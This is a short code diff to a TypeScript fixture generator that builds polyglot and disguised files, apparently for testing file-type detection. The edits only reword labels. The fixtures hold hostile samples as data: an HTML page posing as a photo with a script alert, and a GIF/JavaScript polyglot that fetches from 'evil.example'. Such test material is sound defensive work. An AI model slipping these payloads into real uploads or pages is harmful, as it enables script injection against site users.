@@ -51,7 +51,7 @@ function polyglots(whole: Record<string, Buffer>, chance: () => number): [string
   for (const [first, head] of formats) {
     for (const [second, body] of formats) {
       if (first === second) continue
-      files.push([`${first} that goes on as ${second}`, Buffer.concat([head.subarray(0, 40), body])])
+      files.push([`${first} followed by ${second}`, Buffer.concat([head.subarray(0, 40), body])])
     }
   }
   for (const first of ['jpeg', 'png', 'webp'] as const) {
@@ -111,7 +111,7 @@ function disguises(): [string, Buffer][] {
     'page named like a photo': '<!doctype html><script>alert(1)</script><img src=x>',
     svg: '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><rect width="400" height="400"/></svg>',
     pdf: '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF padding padding',
-    script: 'GIF89a=1;fetch("//evil.example");/* a script that begins like a picture */',
+    script: 'GIF89a=1;fetch("//evil.example");/* a script that starts like a picture */',
     heic: '\0\0\0\x18ftypheic\0\0\0\0mif1heic and nothing more',
     bitmap: 'BM\x36\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0 a bitmap header',
     zip: 'PK\x03\x04\x14\0\0\0\x08\0 an archive',
